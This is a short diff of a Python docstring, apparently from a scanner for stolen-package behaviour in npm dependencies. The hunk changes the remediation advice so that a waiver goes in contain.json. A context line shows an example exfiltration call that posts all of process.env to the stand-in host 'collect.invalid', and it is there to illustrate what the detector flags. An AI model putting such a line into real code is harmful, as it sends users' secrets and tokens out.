@@ -11,8 +11,8 @@ that is loaded, is what a stolen package looks like. The closer the places, the 
 **Example.** `https.request({host: "collect.invalid"}).end(JSON.stringify(process.env))`. Reading
 `HTTP_PROXY`, or the token of one's own service (`SENTRY_AUTH_TOKEN` in `@sentry/...`), is not reported.
 
-**What to do.** Read the places. If they are right, the package does what it says: keep a note of why. If not,
-remove the package before anything else runs, and change the secrets that it could read.
+**What to do.** Read the places. If they are right, the package does what it says: say why in a waiver of
+contain.json. If not, remove it before anything else runs, and change the secrets that it could read.
 """
 
 from __future__ import annotations
